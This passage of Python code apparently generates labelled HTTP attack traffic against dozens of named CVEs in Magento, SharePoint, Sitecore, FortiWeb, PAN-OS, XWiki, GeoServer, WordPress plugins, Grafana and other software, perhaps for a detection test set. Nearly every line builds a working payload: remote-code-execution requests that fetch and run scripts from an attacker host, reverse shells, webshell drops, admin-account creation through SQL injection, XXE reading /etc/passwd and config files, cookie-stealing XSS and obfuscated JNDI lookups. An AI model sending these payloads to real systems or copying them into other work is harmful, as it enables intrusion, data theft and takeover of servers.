              "session": {"sessionConfig": {"savePath": "../../../../pub/media/customer_address/s/e"}}}}},
              "email": "a@example.com"}
    g.add("php", T, "PUT", f"/rest/default/V1/guest-carts/{g.alnum(32)}/order", "shop.example.com",
          [("Cookie", f"PHPSESSID={sid}")], body=jd(nested), ctype=JSON_CT, ua=g.tool(), accept="application/json")
    nested2 = {"cartId": g.alnum(32), "paymentMethod": {"method": "free", "additional_data": {
        "sessionManager": {"sessionConfig": {"options": {"save_path": "media/customer_address/s/e"}}}}}}
    g.add("php", T, "POST", f"/rest/V1/guest-carts/{nested2['cartId']}/payment-information", "shop.example.com",
          [("Cookie", f"PHPSESSID={sid}")], body=jd(nested2), ctype=JSON_CT, ua=g.tool())
    T2 = "magento-cve-2024-34102"
    for dtd in ["http://%s/dtd.xml" % ATK, "php://filter/convert.base64-encode/resource=/var/www/html/app/etc/env.php"]:
        xml = ('<?xml version="1.0" ?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY %% sp SYSTEM "%s"> %%sp; %%param1; ]>'
               '<r>&exfil;</r>' % dtd)
        p = {"address": {"totalsReader": {"collectorList": {"totalCollector": {"sourceData": {"data": xml, "options": 16}}}}}}
        g.add("xxe", T2, "POST", "/rest/all/V1/guest-carts/test-assetnote/estimate-shipping-methods", "shop.example.com",
              body=jd(p), ctype=JSON_CT, ua=g.tool())


def atk_dotnet(g):
    T = "sitecore-cve-2025-53690"
    for cmd in ["whoami > C:\\inetpub\\wwwroot\\sc\\o.txt", "powershell -nop -w hidden -c iwr http://%s/a|iex" % ATK]:
        vs = dotnet_viewstate(g.r, cmd)
        g.add("rce", T, "POST", "/sitecore/blocked.aspx", "www.example.com",
              body=form([("__VIEWSTATE", vs), ("__VIEWSTATEGENERATOR", "DBE3B8B9")]), ctype=FORM)
    T2 = "sitecore-cve-2025-53693"
    g.add("xss", T2, "POST", "/-/xaml/Sitecore.Shell.Xaml.WebControl", "www.example.com",
          body=form([("__PARAMETERS", 'AddToCache("wat","<html><script>fetch(\'//%s/\'+document.cookie)</script></html>")' % ATK),
                     ("__SOURCE", "ctl00_ctl00_ctl05_ctl03"), ("__ISEVENT", "1")]), ctype=FORM, ua=g.tool())
    T3 = "gladinet-cve-2025-30406"
    for path in ["/portal/loginpage.aspx", "/portal/Default.aspx"]:
        vs = dotnet_viewstate(g.r, "certutil -urlcache -f http://%s/x.exe C:\\Windows\\Temp\\x.exe" % ATK, 32)
        g.add("rce", T3, "POST", path, "share.example.com",
              body=form([("__VIEWSTATE", vs), ("__VIEWSTATEGENERATOR", "3FE2630A"), ("__EVENTVALIDATION", "")]), ctype=FORM)
    T4 = "gladinet-cve-2025-11371"
    g.add("lfi", T4, "GET", "/storage/t.dn?s=" + q("..\\..\\..\\Program Files (x86)\\Gladinet Cloud Enterprise\\root\\Web.config") + "&sid=1",
          "share.example.com", ua=g.tool())
    T5 = "triofox-cve-2025-12480"
    g.add("generic", T5, "GET", "/management/CommandCenter/AdminAccount.aspx", "localhost", ua=g.tool(),
          accept=HTML_ACCEPT)
    T6 = "sharepoint-cve-2025-53770"
    dataset = ('<DataSet><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" id="ds"><xs:element name="ds" msdata:IsDataSet="true" '
               'xmlns:msdata="urn:schemas-microsoft-com:xml-msdata"/></xs:schema><diffgr:diffgram xmlns:diffgr="urn:schemas-microsoft-com:xml-diffgram-v1">'
               '<ds><ExpandedWrapperOfLosFormatterObjectDataProvider><ProjectedProperty0><MethodName>Deserialize</MethodName>'
               '<MethodParameters><anyType xsi:type="xsd:string" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">'
               + dotnet_viewstate(g.r, "powershell -EncodedCommand JABiAGEAcwBlADYANAA=") +
               '</anyType></MethodParameters><ObjectInstance xsi:type="LosFormatter"/></ProjectedProperty0>'
               '</ExpandedWrapperOfLosFormatterObjectDataProvider></ds></diffgr:diffgram></DataSet>')
    dwp = ('<%@ Register Tagprefix="Scorecard" Namespace="Microsoft.PerformancePoint.Scorecards" '
           'Assembly="Microsoft.PerformancePoint.Scorecards.Client, Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %>'
           '<%@ Register Tagprefix="asp" Namespace="System.Web.UI" Assembly="System.Web.Extensions, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35" %>'
           '<asp:UpdateProgress ID="UpdateProgress1" DisplayAfter="10" runat="server" AssociatedUpdatePanelID="upTest">'
           '<ProgressTemplate><div><Scorecard:ExcelDataSet CompressedDataTable="' + gz_b64(dataset) +
           '" DataTable-CaseSensitive="true" runat="server"></Scorecard:ExcelDataSet></div></ProgressTemplate></asp:UpdateProgress>')
    for ref in ["/_layouts/SignOut.aspx", "/_layouts/15/SignOut.aspx"]:
        g.add("rce", T6, "POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", "sharepoint.example.com",
              [("Referer", ref)],
              body=form([("MSOTlPn_Uri", "http://sharepoint.example.com/_controltemplates/15/AclEditor.ascx"), ("MSOTlPn_DWP", dwp)]),
              ctype=FORM)


def atk_freepbx(g):
    T = "freepbx-cve-2025-57819"
    base = "/admin/ajax.php?module=" + q("FreePBX\\modules\\endpoint\\ajax") + "&command=model&template=x&model=model&brand="
    php = "<?php if(isset($_REQUEST['c'])){system($_REQUEST['c']);} ?>"
    inj = [
        "x' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT username FROM ampusers LIMIT 1))) -- ",
        "x' UNION SELECT 1,2,3,4,GROUP_CONCAT(username,0x3a,password_sha1) FROM ampusers-- -",
        ("x';INSERT INTO cron_jobs (modulename,jobname,command,class,schedule,max_runtime,enabled,execution_order) "
         "VALUES ('sysadmin','%s','echo %s | base64 -d > /var/www/html/%s.php',NULL,'* * * * *',30,1,1) -- "
         % (g.alnum(8), b64(php), g.alnum(6))),
        "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- a",
        "x';INSERT INTO ampusers (username,password_sha1,sections) VALUES ('ampuser','%s',0x2a)#" % g.hexs(40),
    ]
    for i, s in enumerate(inj):
        enc = q(s) if i % 2 else qp(s)
        g.add("sqli", T, "GET", base + enc, "pbx.example.com", ua=g.tool() if i % 2 else g.browser())


def atk_oracle_ebs(g):
    T = "oracle-ebs-cve-2025-61882"
    def xml(ret):
        return ('<?xml version="1.0" encoding="UTF-8"?><initialize><param name="init_was_saved">test</param>'
                f'<param name="return_url">{ret}</param><param name="ui_def_id">0</param>'
                '<param name="config_effective_usage_id">0</param><param name="ui_type">Applet</param></initialize>')
    hs = [("CSRF-XHR", "YES"), ("FETCH-CSRF-TOKEN", "1")]
    g.add("ssrf", T, "POST", "/OA_HTML/configurator/UiServlet", "ebs.example.com", hs,
          body=form([("redirectFromJsp", "1"), ("getUiType", xml("http://%s:8000/" % OAST))]), ctype=FORM, ua=g.tool())
    g.add("ssrf", T, "POST", "/OA_HTML/configurator/UiServlet", "ebs.example.com", hs,
          body=form([("redirectFromJsp", "1"), ("getUiType", xml("http://apps.example.com:7201/OA_HTML/help/../ieshostedsurvey.jsp"))]),
          ctype=FORM, ua=g.tool())
    crlf_ret = ("http://localhost:7201/OA_HTML/help/../ieshostedsurvey.jsp HTTP/1.2&#13;&#10;Host: %s&#13;&#10;"
                "User-Agent: x&#13;&#10;Connection: keep-alive&#13;&#10;&#13;&#10;POST /" % ATK)
    g.add("crlf", T, "POST", "/OA_HTML/configurator/UiServlet", "ebs.example.com", hs,
          body=form([("redirectFromJsp", "1"), ("getUiType", xml(crlf_ret))]), ctype=FORM, ua=g.tool())
    g.add("xxe", T, "POST", "/OA_HTML/SyncServlet", "ebs.example.com",
          body='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % r SYSTEM "http://' + ATK + '/ebs.dtd"> %r;]><x>&exf;</x>',
          ctype="text/xml", ua=g.tool())


def atk_forti(g):
    T = "fortiweb-cve-2025-64446"
    cgi = b64(jdp({"username": "admin", "profname": "prof_admin", "vdom": "root", "loginname": "admin"}))
    user = g.alnum(8)
    body = jdp({"data": {"q_type": 1, "name": user, "access-profile": "prof_admin", "access-profile_val": "0",
                         "trusthostv4": "0.0.0.0/0 ", "trusthostv6": "::/0 ", "last-name": "", "first-name": "",
                         "email-address": "", "phone-number": "", "mobile-number": "", "hidden": 0, "comments": "",
                         "sz_class-map-ip": -1, "type": "local-user", "admin-usergrp_val": "0",
                         "password": user, "password-confirm": user}})
    for path in ["/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi",
                 "/api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi",
                 "/api/v2.0/cmdb/%2e%2e/%2e%2e/%2e%2e/cgi-bin/fwbcgi"]:
        g.add("lfi", T, "POST", path, "waf.example.com", [("CGIINFO", cgi)], body=body, ctype=JSON_CT, ua=g.tool())
    T2 = "fortiweb-cve-2025-58034"
    g.add("rce", T2, "POST", "/api/v2.0/cmdb/system/certificate.local", "waf.example.com",
          [("Authorization", b64(jdp({"username": "admin", "password": "x", "vdom": "root"})))],
          body=jdp({"data": {"name": "c1`curl http://%s/f|sh`" % ATK, "comments": "x"}}), ctype=JSON_CT, ua=g.tool())
    T3 = "fortiweb-cve-2025-25257"
    for auth in ["Bearer AAAAAA'or'1'='1",
                 "Bearer ';SELECT(0x3c3f706870206576616c28245f504f53545b2778275d293b203f3e)INTO/**/OUTFILE/**/'../../lib/python3.10/site-packages/x.pth'--/**/-",
                 "Bearer ';SELECT/**/SLEEP(5)#",
                 "Bearer aaaa'/**/UNION/**/SELECT/**/user(),2,3--/**/-"]:
        g.add("sqli", T3, "GET", "/api/fabric/device/status", "waf.example.com", [("Authorization", auth)], ua=g.tool())
    T4 = "panos-cve-2024-9474"
    g.add("rce", T4, "POST", "/php/utils/createRemoteAppwebSession.php/watchTowr.js.map", "fw.example.com",
          [("X-PAN-AUTHCHECK", "off")],
          body=form([("user", "`echo $(uname -a) > /var/appweb/htdocs/unauth/%s.php`" % g.alnum(6)),
                     ("userRole", "superuser"), ("remoteHost", ""), ("vsys", "vsys1")]), ctype=FORM, ua=g.tool())
    T5 = "panos-cve-2025-0108"
    g.add("lfi", T5, "GET", "/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", "fw.example.com", ua=g.tool())
    g.add("generic", "panos-cve-2024-0012", "GET", "/php/ztp_gate.php/.js.map", "fw.example.com",
          [("X-PAN-AUTHCHECK", "off")], ua=g.tool())


def atk_xwiki(g):
    T = "xwiki-cve-2025-24893"
    gro = [
        '}}}{{async async=false}}{{groovy}}println("id".execute().text){{/groovy}}{{/async}}',
        '}}}{{async async=false}}{{groovy}}println(new File("/etc/passwd").text){{/groovy}}{{/async}}',
        '}}}{{async async=false}}{{groovy}}"bash -c {echo,%s}|{base64,-d}|{bash,-i}".execute(){{/groovy}}{{/async}}' % b64("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        '}}}{{async async=false}}{{python}}import os; print(os.popen("cat /etc/hostname").read()){{/python}}{{/async}}',
        '}}}{{async async=false}}{{groovy}}println(["sh","-c","curl %s"].execute().text){{/groovy}}{{/async}}' % OAST,
    ]
    for i, s in enumerate(gro):
        enc = q(s) if i != 1 else qp(s)
        g.add("rce", T, "GET", "/xwiki/bin/get/Main/SolrSearch?media=rss&text=" + enc, "wiki.example.com",
              ua=g.tool() if i % 2 else g.browser())
    T2 = "xwiki-cve-2025-32429"
    g.add("sqli", T2, "GET", "/xwiki/rest/liveData/sources/liveTable/entries?sourceParams.template=getdeleteddocuments.vm&sort="
          + q("doc.name,(select 1 from (select sleep(5))x)") + "&offset=0&limit=15", "wiki.example.com", ua=g.tool(),
          accept="application/json")
    g.add("sqli", T2, "GET", "/xwiki/bin/get/Main/AllDocs?xpage=getdeleteddocuments&sort="
          + q("ddoc.fullName' union select password from XWikiUsers where '1'='1") + "&outputSyntax=plain", "wiki.example.com",
          ua=g.tool())


def atk_pythonish(g):
    T = "pgadmin-cve-2025-2945"
    tid = g.r.randrange(10**6, 10**7)
    hs = [("X-pgA-CSRFToken", g.alnum(40) + "." + g.alnum(20)), ("Cookie", f"pga4_session={g.uuid()}!{g.alnum(44)}=")]
    g.add("rce", T, "POST", f"/sqleditor/query_tool/download/{tid}", "pgadmin.example.com", hs,
          body=jd({"query_commited": "__import__('os').system('curl http://%s/p|sh')" % ATK, "filename": "data.csv"}),
          ctype=JSON_CT, ua=g.tool())
    g.add("rce", T, "POST", "/cloud/deploy", "pgadmin.example.com", hs,
          body=jd({"cloud": "rds", "secret": {"aws_region": "us-east-1"}, "instance_details": {
              "high_availability": "__import__('subprocess').getoutput('id')", "name": "db1"}}),
          ctype=JSON_CT, ua=g.tool())
    T = "langflow-cve-2025-3248"
    codes = [
        "def exploit(x=exec('raise Exception(__import__(\"subprocess\").check_output([\"id\"]))')):\n    pass",
        "@exec(\"raise Exception(__import__('subprocess').check_output('cat /etc/passwd', shell=True))\")\ndef foo():\n    pass",
        "def run(cmd=__import__('os').system('curl -s http://%s/l | bash')):\n    return cmd" % ATK,
    ]
    for c in codes:
        g.add("rce", T, "POST", "/api/v1/validate/code", "langflow.example.com", body=jd({"code": c}), ctype=JSON_CT,
              ua=g.tool(), accept="application/json")
    T = "wazuh-cve-2025-24016"
    for args in [{"__class__": "exit", "__args__": []},
                 {"__class__": "os.system", "__args__": ["curl http://%s/w | sh" % ATK]},
                 {"__class__": "subprocess.getoutput", "__args__": ["id > /tmp/w"]}]:
        g.add("rce", T, "POST", "/security/user/authenticate/run_as", "wazuh.example.com:55000",
              [("Authorization", "Basic " + b64("wazuh-wui:MyS3cr37P450r.*-"))],
              body=jd({"__unhandled_exc__": args}), ctype=JSON_CT, ua=g.tool())
    T = "bentoml-cve-2025-27520"
    pickle_payload = b"cos\nsystem\n(S'curl http://" + ATK.encode() + b"/b|sh'\ntR."
    g.rawreq("rce", T, "POST", "/summarize", "bento.example.com", [], pickle_payload,
             ctype="application/vnd.bentoml+pickle")
    T = "mcp-inspector-cve-2025-49596"
    g.add("rce", T, "GET", "/sse?transportType=stdio&command=touch&args=" + q("/tmp/exploited-from-the-browser"),
          "mcp-inspector.internal.example.com", accept="text/event-stream")


def atk_java_misc(g):
    T = "camel-cve-2025-27636"
    for hs in [[("CAmelExecCommandExecutable", "id")],
               [("CAmelExecCommandExecutable", "ls"), ("CAmelExecCommandArgs", "-la /")],
               [("cAMELexecCommandExecutable", "sh"), ("CAmelExecCommandArgs", "-c \"curl %s\"" % OAST)]]:
        g.add("rce", T, "GET", "/api/orders/export", "camel.example.com", hs, ua=g.tool())
    g.add("rce", "camel-cve-2025-29891", "GET", "/route?CAmelExecCommandExecutable=whoami", "camel.example.com",
          ua=g.tool())
    g.add("rce", "camel-cve-2025-29891", "POST", "/api/invoice", "camel.example.com",
          body=form([("CAmelExecCommandExecutable", "bash"), ("CAmelExecCommandArgs", "-c 'id>/tmp/c'")]),
          ctype=FORM, ua=g.tool())
    T = "aem-forms-cve-2025-54253"
    for o in ["${@java.lang.Runtime@getRuntime().exec(\"id\")}",
              "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"cat /etc/passwd\").getInputStream(),\"utf-8\"))}",
              "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('curl " + OAST + "'))}"]:
        g.add("java", T, "GET", "/adminui/debug?path=" + q(o), "forms.example.com", ua=g.tool())
    T = "aem-forms-cve-2025-54251"
    soap = ('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
            '<renderPDFForm><formQuery>&xxe;</formQuery></renderPDFForm></soapenv:Body></soapenv:Envelope>')
    g.add("xxe", T, "POST", "/soap/services/FormsService", "forms.example.com", [("SOAPAction", '""')], body=soap,
          ctype="text/xml; charset=utf-8", ua=g.tool())
    T = "tika-cve-2025-66516"
    for ti, ent in enumerate(['<!ENTITY xxe SYSTEM "file:///etc/passwd">',
                '<!ENTITY % dtd SYSTEM "http://' + ATK + '/t.dtd"> %dtd;',
                '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">']):
        xfa = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE xdp [' + ent + ']>'
               '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
               '<subform name="form1"><field name="f"><value><text>&xxe;</text></value></field></subform></template></xdp:xdp>')
        pdf = ("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>\nendobj\n"
               "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
               "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"
               "4 0 obj\n<< /Fields [] /XFA 5 0 R >>\nendobj\n"
               f"5 0 obj\n<< /Length {len(xfa)} >>\nstream\n{xfa}\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
        g.add("xxe", T, "PUT", ["/tika", "/rmeta/text", "/tika/text"][ti], "tika.example.com:9998",
              [("Accept", "text/plain")], body=pdf, ctype="application/pdf", ua=g.tool())
    T = "geoserver-cve-2024-36401"
    for vr in ["exec(java.lang.Runtime.getRuntime(),'touch /tmp/geo')",
               "exec(java.lang.Runtime.getRuntime(),'curl http://%s/g')" % ATK]:
        g.add("rce", T, "GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=" + q(vr),
              "maps.example.com", ua=g.tool())
    g.add("rce", T, "GET", "/geoserver/wfs?service=WFS&version=1.0.0&request=GetFeature&typeName=topp:states&propertyName="
          + q("exec(java.lang.Runtime.getRuntime(),'nslookup geo.%s')" % OAST), "maps.example.com", ua=g.tool())
    xml = ("<wfs:GetPropertyValue service='WFS' version='2.0.0' xmlns:topp='http://www.openplans.org/topp' "
           "xmlns:fes='http://www.opengis.net/fes/2.0' xmlns:wfs='http://www.opengis.net/wfs/2.0'>"
           "<wfs:Query typeNames='topp:states'/><wfs:valueReference>exec(java.lang.Runtime.getRuntime(),"
           "'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy85MDAxIDA+JjE=}|{base64,-d}|{bash,-i}')"
           "</wfs:valueReference></wfs:GetPropertyValue>")
    g.add("rce", T, "POST", "/geoserver/wfs", "maps.example.com", body=xml, ctype="application/xml", ua=g.tool())
    T = "geoserver-cve-2025-58360"
    sld = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE StyledLayerDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           '<StyledLayerDescriptor version="1.0.0" xmlns="http://www.opengis.net/sld"><NamedLayer><Name>&xxe;</Name>'
           '</NamedLayer></StyledLayerDescriptor>')
    g.add("xxe", T, "POST", "/geoserver/wms?service=WMS&version=1.1.0&request=GetMap&width=100&height=100&format=image/png&bbox=0,0,10,10",
          "maps.example.com", body=sld, ctype="application/vnd.ogc.sld+xml", ua=g.tool())
    T = "struts-cve-2024-53677"
    for name in ["../../../webapps/ROOT/shell.jsp", "..\\..\\..\\webapps\\ROOT\\s.jsp"]:
        body, ct = multipart([("Upload", JSP_SHELL, "avatar.png", "image/png"), ("top.UploadFileName", name)], g.wk_boundary())
        g.add("java", T, "POST", "/upload.action", "struts.example.com", body=body, ctype=ct, ua=g.tool())
    T = "spring-cloud-gateway-cve-2025-41243"
    g.add("java", T, "POST", "/actuator/gateway/routes/pwn", "gateway.internal.example.com",
          body=jd({"id": "pwn", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result",
                   "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
                   "uri": "http://example.com"}), ctype=JSON_CT, ua=g.tool())
    g.add("java", T, "POST", "/actuator/gateway/routes/p2", "gateway.internal.example.com",
          body=jd({"id": "p2", "predicates": [{"name": "Path", "args": {"_genkey_0": "/p2/**"}}],
                   "filters": [{"name": "AddRequestHeader", "args": {"name": "X",
                   "value": "#{@systemProperties['spring.cloud.gateway.restrictive-property-accessor.enabled'] = false}"}}],
                   "uri": "http://example.com"}), ctype=JSON_CT, ua=g.tool())
    T = "ofbiz-cve-2024-45195"
    g.add("rfi", T, "POST", "/webtools/control/forgotPassword/viewdatafile", "erp.example.com",
          body=form([("DATAFILE_LOCATION", "http://%s/rceschema.xml" % ATK),
                     ("DATAFILE_SAVE", "./applications/accounting/webapp/accounting/index.jsp"),
                     ("DATAFILE_IS_URL", "true"), ("DEFINITION_LOCATION", "http://%s/rcedefinition.xml" % ATK),
                     ("DEFINITION_IS_URL", "true"), ("DEFINITION_NAME", "rce")]), ctype=FORM, ua=g.tool())
    T = "ofbiz-cve-2024-38856"
    g.add("rce", T, "POST", "/webtools/control/main/ProgramExport", "erp.example.com",
          body=form([("groovyProgram", "throw new Exception('id'.execute().text);")]), ctype=FORM, ua=g.tool())
    g.add("rce", T, "POST", "/webtools/control/forgotPassword/ProgramExport", "erp.example.com",
          body="groovyProgram=" + "".join("\\u%04x" % ord(c) for c in "throw new Exception('whoami'.execute().text);"),
          ctype=FORM, ua=g.tool())
    T = "kafka-ui-cve-2023-52251"
    g.add("rce", T, "GET", "/api/clusters/local/topics/orders/messages?q=" + q('new ProcessBuilder("sh","-c","id").start()')
          + "&filterQueryType=GROOVY_SCRIPT&attempt=2&limit=100&page=0&seekDirection=FORWARD&keySerde=String&valueSerde=String&seekType=BEGINNING",
          "kafka-ui.example.com", ua=g.tool(), accept="text/event-stream")


def atk_jndi(g):
    T = "jndi-obfuscated"
    pls = [
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s/a}" % OAST,
        "${jndi:${lower:l}${lower:d}a${lower:p}://%s:1389/o}" % ATK,
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//%s/x}" % ATK,
        "${jndi:dns://${hostName}.%s}" % OAST,
        "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://%s/Exploit}" % ATK,
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/e}" % ATK,
        "${jndi:ldap://127.0.0.1#%s:1389/a}" % ATK,
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldaps://%s/c}" % ATK,
    ]
    placements = ["User-Agent", "X-Api-Version", "Referer", "query", "X-Forwarded-For", "json", "Authorization", "cookie"]
    for p, where in zip(pls, placements):
        host = g.r.choice(["solr.example.com", "kc.example.com", "api.example.com", "vcenter.example.com"])
        if where == "User-Agent":
            g.add("java", T, "GET", "/", host, ua=p)
        elif where == "query":
            g.add("java", T, "GET", "/solr/admin/collections?action=" + q(p) + "&wt=json", host, ua=g.tool())
        elif where == "json":
            g.add("java", T, "POST", "/auth/realms/master/login-actions/authenticate", host,
                  body=jd({"username": p, "password": "x"}), ctype=JSON_CT, ua=g.tool())
        elif where == "cookie":
            g.add("java", T, "GET", "/websso/SAML2/SSO/vsphere.local", host, [("Cookie", "JSESSIONID=" + q(p))], ua=g.tool())
        elif where == "Authorization":
            g.add("java", T, "GET", "/api/v1/status", host, [("Authorization", "Basic " + b64(p + ":x"))], ua=g.tool())
        else:
            g.add("java", T, "GET", "/login", host, [(where, p)], ua=g.tool())


def atk_wordpress(g):
    H = "blog.example.com"
    T = "wp-ottokit-cve-2025-3102"
    g.add("generic", T, "POST", "/wp-json/sure-triggers/v1/automation/action", H, [("st_authorization", "")],
          body=jd({"integration": "WordPress", "type_event": "create_user_if_not_exists",
                   "selected_options": {"user_name": "wpsvc", "password": "Wp!2025x", "user_email": "wpsvc@" + ATK,
                                        "role": "administrator"}, "fields": [], "context": []}),
          ctype=JSON_CT, ua=g.tool())
    T = "wp-depicter-cve-2025-2011"
    for s in ["x') UNION ALL SELECT user_login,user_pass,3,4,5 FROM wp_users-- -",
              "') AND (SELECT 5143 FROM (SELECT(SLEEP(6)))IGvk)-- pQna"]:
        g.add("sqli", T, "GET", "/wp-admin/admin-ajax.php?action=depicter-lead-index&s=" + q(s) + "&perpage=10", H, ua=g.tool())
    T = "wp-alone-cve-2025-5394"
    g.add("rfi", T, "POST", "/wp-admin/admin-ajax.php", H,
          body=form([("action", "alone_import_pack_install_plugin"), ("data[plugin_slug]", "wp-help"),
                     ("data[source]", "http://%s/wp-help.zip" % ATK)]), ctype=FORM, ua=g.tool())
    T = "wp-really-simple-security-cve-2024-10924"
    g.add("generic", T, "POST", "/?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding", H,
          body=jd({"user_id": 1, "login_nonce": "%d" % g.r.randrange(10**9), "redirect_to": "/wp-admin/"}), ctype=JSON_CT,
          ua=g.tool())
    T = "wp-givewp-cve-2024-8353"
    obj = ('O:19:"Stripe\\StripeObject":1:{s:10:"\x00*\x00_values";a:1:{s:3:"foo";O:62:"Give\\PaymentGateways\\DataTransferObjects\\GiveInsertPaymentData":1:'
           '{s:8:"userInfo";a:1:{s:7:"address";O:4:"Give":1:{s:12:"\x00*\x00container";O:33:"Give\\Vendors\\Faker\\ValidGenerator":3:'
           '{s:12:"\x00*\x00validator";s:10:"shell_exec";s:12:"\x00*\x00generator";O:34:"Give\\Onboarding\\SettingsRepository":1:'
           '{s:11:"\x00*\x00settings";a:1:{s:8:"address1";s:2:"id";}}s:13:"\x00*\x00maxRetries";i:10;}}}}}}')
    g.add("php", T, "POST", "/wp-admin/admin-ajax.php", H,
          body=form([("give-form-id", "12"), ("give-form-hash", g.hexs(10)), ("give-price-id", "custom"),
                     ("give-amount", "10.00"), ("give_first", "Jo"), ("give_last", "Do"), ("give_email", "jo@example.com"),
                     ("give_title", obj), ("give-gateway", "offline"), ("action", "give_process_donation")]),
          ctype=FORM, ua=g.tool())
    T = "wp-automatic-cve-2024-27956"
    g.add("sqli", T, "POST", "/wp-content/plugins/wp-automatic/inc/csv.php", H,
          body=form([("q", "INSERT INTO wp_users (user_login, user_pass, user_email, user_registered, user_status) VALUES ('eviladmin', MD5('x'), 'e@%s', NOW(), 0)" % ATK),
                     ("auth", "\x00"), ("integ", g.hexs(32))]), ctype=FORM, ua=g.tool())
    T = "wp-bricks-cve-2024-25600"
    g.add("php", T, "POST", "/wp-json/bricks/v1/render_element", H,
          body=jd({"postId": "1", "nonce": g.hexs(10), "element": {"name": "code", "settings": {
              "executeCode": "true", "code": "<?php throw new Exception(`id`);?>"}}}), ctype=JSON_CT, ua=g.tool())
    g.add("php", T, "POST", "/?rest_route=/bricks/v1/render_element", H,
          body=jd({"postId": "1", "nonce": g.hexs(10), "element": "1", "loopElement": {"settings": {"query": {
              "useQueryEditor": True, "queryEditor": "throw new Exception(system('cat /etc/passwd'));",
              "objectType": "post"}}}}), ctype=JSON_CT, ua=g.tool())
    T = "wp-king-addons-cve-2025-8489"
    g.add("generic", T, "POST", "/wp-admin/admin-ajax.php", H,
          body=form([("action", "king_addons_user_register"), ("username", "kadmin"), ("email", "k@%s" % ATK),
                     ("password", "K1ng!2025"), ("user_role", "administrator"), ("nonce", g.hexs(10))]),
          ctype=FORM, ua=g.tool())
    T = "wp-statistics-xss"
    g.add("xss", T, "GET", "/?utm_source=" + q('"><script src=//%s/k.js></script>' % ATK), H, accept=HTML_ACCEPT)
    g.add("xss", T, "GET", "/shop/", H, [("Referer", "https://google.com/?q=%3Csvg%2Fonload%3Dalert%28document.domain%29%3E")],
          ua='Mozilla/5.0 <img src=x onerror=import("//%s/w.js")>' % ATK, accept=HTML_ACCEPT)
    T = "wp-kubio-lfi"
    g.add("lfi", T, "GET", "/?__kubio-site-edit-iframe-preview=1&__kubio-site-edit-iframe-classic-template=" + q("../../../../../wp-config.php"),
          H, ua=g.tool())
    T = "wp-post-smtp-lfi"
    g.add("lfi", T, "GET", "/wp-admin/admin-ajax.php?action=ps_get_attachment&file=" + q("php://filter/convert.base64-encode/resource=../wp-config.php"),
          H, ua=g.tool())


def atk_grafana(g):
    H = "grafana.example.com"
    T = "grafana-cve-2025-4123"
    g.add("xss", T, "GET", "/public/..%2F%5C" + ATK + "%2F%3F%2F..%2F..", H, accept=HTML_ACCEPT)
    g.add("xss", T, "GET", "/a/..%2F..%2F..%2Fpublic%2F..%252f%255C" + ATK + "%252f%253F%252f..%252f..%2Fexplore", H,
          accept=HTML_ACCEPT)
    T = "grafana-cve-2025-6023"
    g.add("xss", T, "GET", "/render/public/..%252f%255C" + ATK + "%252f%253F%252f..%252f..", H, ua=g.browser())
    g.add("xss", "grafana-cve-2025-2703", "GET", "/d/abc/ops?orgId=1&var-panel=" + q('<img src=x onerror=alert(document.domain)>'),
          H, accept=HTML_ACCEPT)
    T = "grafana-cve-2024-9264"
    for cat, expr in [("lfi", 'SELECT content FROM read_blob("/etc/passwd")'),
                      ("sqli", "SELECT 1;COPY (SELECT 'sh -i >& /dev/tcp/203.0.113.7/4444 0>&1') TO '/tmp/rev';"),
                      ("rce", "SELECT 1;install shellfs from community;LOAD shellfs;SELECT * FROM read_csv('bash /tmp/rev |')")]:
        g.add(cat, T, "POST", "/api/ds/query?ds_type=__expr__&expression=true&requestId=Q101", H,
              [("Cookie", "grafana_session=" + g.hexs(32)), ("X-Grafana-Org-Id", "1")],
              body=jd({"queries": [{"refId": "B", "datasource": {"type": "__expr__", "uid": "__expr__", "name": "Expression"},
